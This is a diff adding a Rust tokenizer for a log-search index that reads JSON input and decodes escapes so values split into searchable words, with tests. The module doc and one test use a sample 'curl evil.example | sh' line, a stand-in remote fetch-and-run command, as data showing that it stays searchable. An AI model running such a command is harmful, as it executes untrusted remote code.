@@ -1,0 +1,402 @@
+//! The tokenizer of the raw input's words (`_raw`): the words of its *values*, read as JSON
+//! when the input is JSON.
+//!
+//! Most raw inputs are JSON (audit events, NDJSON, Docker json-file lines). Split as plain text
+//! (tantivy's `SimpleTokenizer`), an escape sequence glues its letter to the next word: a
+//! ConfigMap value `"#!/bin/sh\ncurl evil.example | sh"` gave the tokens `bin sh ncurl evil
+//! example sh`, so a search for `curl` missed it; `\u003c` gave `u003c`. And every key name
+//! (`"apiVersion"`, `"auditID"`, `"username"`, ...) was indexed in every event, though a bare
+//! word is a search for a value and keys are asked for with `_exists_:path`.
+//!
+//! So a text whose first non-blank character is `{` or `[` is scanned as JSON: string values
+//! are split into words after their escapes are decoded (`\n`, `\t`, ... separate words,
+//! `\uXXXX` is the character it names, surrogate pairs included), object keys are skipped,
+//! and numbers and literals outside strings are words as before. Any other text is split as
+//! `SimpleTokenizer` splits it (runs of alphanumeric characters). Broken JSON is read
+//! leniently (an unterminated string runs to the end; nothing panics, everything is read once).
+//!
+//! On the 100k-event benchmark corpus (`examples/ingest.rs`) the skipped keys are a third of
+//! the raw words' bytes: `_raw` shrank from 5.99 to 5.65 MB (the store from 0.355 to 0.348 of
+//! the raw size) at the same CPU per event (this tokenizer is a little slower than
+//! `SimpleTokenizer`, 2.9 against 2.5 µs per event, and tantivy hashes fewer words). No crate
+//! tokenizes JSON text this way for tantivy, hence this file.
+
+use tantivy::tokenizer::{Token, TokenStream, Tokenizer};
+
+/// Name the tokenizer is registered under in each partition's index.
+pub(crate) const RAW_WORDS: &str = "raw_words";
+
+/// Splits raw input into the words of its values (see the module doc).
+#[derive(Clone, Default)]
+pub(crate) struct RawWordsTokenizer {
+    token: Token,
+}
+
+impl Tokenizer for RawWordsTokenizer {
+    type TokenStream<'a> = RawWords<'a>;
+
+    fn token_stream<'a>(&'a mut self, text: &'a str) -> RawWords<'a> {
+        self.token.reset();
+        let json = matches!(text.trim_start().as_bytes().first(), Some(b'{' | b'['));
+        RawWords {
+            text,
+            pos: 0,
+            json,
+            string_end: None,
+            token: &mut self.token,
+        }
+    }
+}
+
+/// The token stream of [`RawWordsTokenizer`].
+pub(crate) struct RawWords<'a> {
+    text: &'a str,
+    /// Byte offset of the next character to read.
+    pos: usize,
+    /// Whether `text` is read as JSON.
+    json: bool,
+    /// Inside a string value: the offset of its closing quote (or the text's end).
+    string_end: Option<usize>,
+    token: &'a mut Token,
+}
+
+/// What an escape sequence of a JSON string stands for.
+enum Escape {
+    /// A character (`\"`, `\\`, `\/`, `\uXXXX`).
+    Char(char),
+    /// A control character (`\n`, `\t`, ...) or a broken escape: a word break.
+    Break,
+}
+
+impl RawWords<'_> {
+    /// The character at `at` and the offset after it, if `at < end`.
+    fn char_at(&self, at: usize, end: usize) -> Option<(char, usize)> {
+        let b = *self.text.as_bytes().get(at).filter(|_| at < end)?;
+        if b.is_ascii() {
+            return Some((b as char, at + 1));
+        }
+        let c = self.text.get(at..)?.chars().next()?;
+        Some((c, at + c.len_utf8()))
+    }
+
+    /// Decodes the escape whose backslash is at `at`, in a string closing at `end`; returns
+    /// what it stands for and the offset after it.
+    fn escape(&self, at: usize, end: usize) -> (Escape, usize) {
+        let bytes = self.text.as_bytes();
+        let Some(&kind) = bytes.get(at + 1).filter(|_| at + 1 < end) else {
+            return (Escape::Break, end);
+        };
+        match kind {
+            b'"' | b'\\' | b'/' => (Escape::Char(kind as char), at + 2),
+            b'u' => match self.hex4(at + 2, end) {
+                Some(high @ 0xD800..=0xDBFF) => {
+                    let low = (bytes.get(at + 6) == Some(&b'\\')
+                        && bytes.get(at + 7) == Some(&b'u'))
+                    .then(|| self.hex4(at + 8, end))
+                    .flatten()
+                    .filter(|low| (0xDC00..=0xDFFF).contains(low));
+                    match low {
+                        Some(low) => {
+                            let code = 0x10000 + ((high - 0xD800) << 10) + (low - 0xDC00);
+                            (char_or_break(code), at + 12)
+                        }
+                        None => (Escape::Break, at + 6),
+                    }
+                }
+                Some(code) => (char_or_break(code), at + 6),
+                None => (Escape::Break, (at + 2).min(end)),
+            },
+            // Not a JSON escape: a break, and the character after the backslash is skipped.
+            _ => (
+                Escape::Break,
+                self.char_at(at + 1, end).map_or(end, |(_, next)| next),
+            ),
+        }
+    }
+
+    /// The value of four hex digits at `at` (all before `end`).
+    fn hex4(&self, at: usize, end: usize) -> Option<u32> {
+        if at + 4 > end {
+            return None;
+        }
+        let digits = self.text.get(at..at + 4)?;
+        if !digits.bytes().all(|b| b.is_ascii_hexdigit()) {
+            return None;
+        }
+        u32::from_str_radix(digits, 16).ok()
+    }
+
+    /// Offset of the closing quote of the string whose content starts at `start` (the text's
+    /// length if it has none).
+    fn string_close(&self, start: usize) -> usize {
+        let bytes = self.text.as_bytes();
+        let mut i = start;
+        while let Some(found) = bytes
+            .get(i..)
+            .and_then(|rest| memchr::memchr2(b'"', b'\\', rest))
+        {
+            let at = i + found;
+            if bytes[at] == b'"' {
+                return at;
+            }
+            i = at + 2;
+        }
+        bytes.len()
+    }
+
+    /// True when the string closed at `close` is an object key (a `:` follows it).
+    fn is_key(&self, close: usize) -> bool {
+        self.text
+            .as_bytes()
+            .get(close + 1..)
+            .and_then(|rest| rest.iter().find(|b| !b.is_ascii_whitespace()))
+            == Some(&b':')
+    }
+
+    /// Reads the next word before `end` into the token; in a JSON string (`string`), escapes
+    /// are decoded. Returns false when no word is left before `end`.
+    fn word(&mut self, end: usize, string: bool) -> bool {
+        let bytes = self.text.as_bytes();
+        // Find the word's first character.
+        let mut first = None;
+        while self.pos < end {
+            let at = self.pos;
+            let b = bytes[at];
+            if b.is_ascii_alphanumeric() {
+                first = Some((at, None));
+                break;
+            }
+            if b.is_ascii() && !(string && b == b'\\') {
+                self.pos += 1;
+                continue;
+            }
+            if string && b == b'\\' {
+                let (escape, next) = self.escape(at, end);
+                self.pos = next;
+                if let Escape::Char(c) = escape {
+                    if c.is_alphanumeric() {
+                        first = Some((at, Some(c)));
+                        break;
+                    }
+                }
+                continue;
+            }
+            let Some((c, next)) = self.char_at(at, end) else {
+                self.pos = end;
+                break;
+            };
+            if c.is_alphanumeric() {
+                first = Some((at, None));
+                break;
+            }
+            self.pos = next;
+        }
+        let Some((from, decoded)) = first else {
+            return false;
+        };
+        self.token.offset_from = from;
+        // The verbatim run being read starts at `run`; a decoded first character is pushed.
+        let mut run = self.pos;
+        if let Some(c) = decoded {
+            self.token.text.push(c);
+        }
+        while self.pos < end {
+            let at = self.pos;
+            let b = bytes[at];
+            if b.is_ascii_alphanumeric() {
+                self.pos += 1;
+                continue;
+            }
+            if b.is_ascii() && !(string && b == b'\\') {
+                break;
+            }
+            if string && b == b'\\' {
+                let (escape, next) = self.escape(at, end);
+                match escape {
+                    Escape::Char(c) if c.is_alphanumeric() => {
+                        self.token.text.push_str(&self.text[run..at]);
+                        self.token.text.push(c);
+                        self.pos = next;
+                        run = next;
+                        continue;
+                    }
+                    _ => break,
+                }
+            }
+            match self.char_at(at, end) {
+                Some((c, next)) if c.is_alphanumeric() => self.pos = next,
+                _ => break,
+            }
+        }
+        self.token.text.push_str(&self.text[run..self.pos]);
+        self.token.offset_to = self.pos;
+        true
+    }
+}
+
+fn char_or_break(code: u32) -> Escape {
+    char::from_u32(code).map_or(Escape::Break, Escape::Char)
+}
+
+impl TokenStream for RawWords<'_> {
+    fn advance(&mut self) -> bool {
+        self.token.text.clear();
+        self.token.position = self.token.position.wrapping_add(1);
+        let len = self.text.len();
+        loop {
+            if let Some(end) = self.string_end {
+                if self.word(end, true) {
+                    return true;
+                }
+                self.string_end = None;
+                self.pos = (end + 1).min(len);
+                continue;
+            }
+            if !self.json {
+                return self.word(len, false);
+            }
+            let Some((c, next)) = self.char_at(self.pos, len) else {
+                return false;
+            };
+            if c == '"' {
+                let close = self.string_close(next);
+                if self.is_key(close) {
+                    self.pos = (close + 1).min(len);
+                } else {
+                    self.string_end = Some(close);
+                    self.pos = next;
+                }
+                continue;
+            }
+            if c.is_alphanumeric() {
+                return self.word(len, false);
+            }
+            self.pos = next;
+        }
+    }
+
+    fn token(&self) -> &Token {
+        self.token
+    }
+
+    fn token_mut(&mut self) -> &mut Token {
+        self.token
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use proptest::prelude::*;
+    use tantivy::tokenizer::SimpleTokenizer;
+
+    fn words(text: &str) -> Vec<String> {
+        let mut tokenizer = RawWordsTokenizer::default();
+        let mut stream = tokenizer.token_stream(text);
+        let mut out = Vec::new();
+        while stream.advance() {
+            let token = stream.token();
+            assert!(token.offset_from < token.offset_to, "{text:?}");
+            out.push(token.text.clone());
+        }
+        out
+    }
+
+    fn simple(text: &str) -> Vec<String> {
+        let mut tokenizer = SimpleTokenizer::default();
+        let mut stream = tokenizer.token_stream(text);
+        let mut out = Vec::new();
+        while stream.advance() {
+            out.push(stream.token().text.clone());
+        }
+        out
+    }
+
+    #[test]
+    fn json_values_are_words_and_keys_are_not() {
+        let text = r#"{"kind":"Event","user":{"username":"system:kube-scheduler"},"code":403,
+            "ok": true, "args": ["sh", "-c"], "empty": ""}"#;
+        assert_eq!(
+            words(text),
+            [
+                "Event",
+                "system",
+                "kube",
+                "scheduler",
+                "403",
+                "true",
+                "sh",
+                "c"
+            ]
+        );
+    }
+
+    #[test]
+    fn escapes_are_decoded_not_glued_to_words() {
+        let text = r##"{"data":{"run.sh":"#!/bin/sh\ncurl evil.example | sh\tx\"q\"\\y"}}"##;
+        assert_eq!(
+            words(text),
+            ["bin", "sh", "curl", "evil", "example", "sh", "x", "q", "y"]
+        );
+        // \u escapes name characters (a surrogate pair too); `<` is a break, `é` a letter.
+        assert_eq!(
+            words(r#"["caf\u00e9\u003cb\u003e", "\ud835\udc00x", "a\u0041", "\u+041"]"#),
+            ["café", "b", "𝐀x", "aA", "041"]
+        );
+    }
+
+    #[test]
+    fn plain_text_splits_like_the_simple_tokenizer() {
+        for text in [
+            "Nov 24 06:29:46 host sshd[123]: Failed password for root from 10.0.0.5",
+            r"C:\new\tools ünïcödé 42",
+            "  not json {\"a\":1}",
+            "",
+        ] {
+            assert_eq!(words(text), simple(text), "{text}");
+        }
+    }
+
+    #[test]
+    fn broken_json_is_read_leniently() {
+        assert_eq!(words(r#"{"a":"unterminated \"x"#), ["unterminated", "x"]);
+        assert_eq!(words(r#"{"a":"bad \u12 escape\"#), ["bad", "12", "escape"]);
+        assert_eq!(words(r#"["\ud800 lone", "\uzzzz", "\"#), ["lone", "zzzz"]);
+        assert_eq!(words("[\"é\\"), ["é"]);
+        assert_eq!(words("{"), Vec::<String>::new());
+    }
+
+    proptest! {
+        /// Any text: no panic, offsets inside the text and increasing, words alphanumeric.
+        #[test]
+        fn any_text_is_tokenized_safely(text in ".{0,200}", json in any::<bool>()) {
+            let text = if json { format!("{{{text}") } else { text };
+            let mut tokenizer = RawWordsTokenizer::default();
+            let mut stream = tokenizer.token_stream(&text);
+            let mut last = 0;
+            while stream.advance() {
+                let token = stream.token();
+                prop_assert!(token.offset_from >= last && token.offset_to <= text.len());
+                prop_assert!(token.text.chars().all(char::is_alphanumeric));
+                last = token.offset_to;
+            }
+        }
+
+        /// A JSON document's words are the words of its string values and of its numbers.
+        #[test]
+        fn json_words_are_the_words_of_its_values(
+            values in proptest::collection::vec(("[a-z]{1,5}", ".{0,20}"), 0..6),
+        ) {
+            let object: serde_json::Map<String, serde_json::Value> = values
+                .iter()
+                .map(|(k, v)| (k.clone(), serde_json::Value::String(v.clone())))
+                .collect();
+            let text = serde_json::Value::Object(object.clone()).to_string();
+            let expected: Vec<String> = object
+                .values()
+                .flat_map(|v| simple(v.as_str().unwrap_or_default()))
+                .collect();
+            prop_assert_eq!(words(&text), expected);
+        }
+    }
+}
